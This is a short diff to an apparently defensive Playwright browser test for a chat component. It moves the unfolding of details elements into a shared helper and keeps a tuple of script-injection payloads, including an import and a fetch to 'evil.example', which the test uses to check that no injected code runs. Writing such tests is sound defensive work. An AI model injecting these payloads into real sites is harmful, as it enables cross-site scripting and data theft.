@@ -9,6 +9,7 @@ from typing import Any
 from playwright.sync_api import Page, Route, expect
 
 from tests.browser.conftest import Site, say
+from tests.browser.states import unfold
 from tests.serving import Server
 
 CALLS = ("alert(1)", "window.__ran=1", "import('https://evil.example/x.js')", "fetch('https://evil.example')")
@@ -84,8 +85,7 @@ def answering(payloads: list[str]) -> Callable[[Route], None]:
 
 
 def check(page: Page) -> None:
-    for folded in page.locator("details:not([open]) > summary").all():
-        folded.click()
+    unfold(page)
     assert page.evaluate("window.__ran") is None
     links: list[str] = page.locator("permanence-chat").evaluate(
         "(host) => [...host.shadowRoot.querySelectorAll('a[href]')].map((a) => a.protocol)"
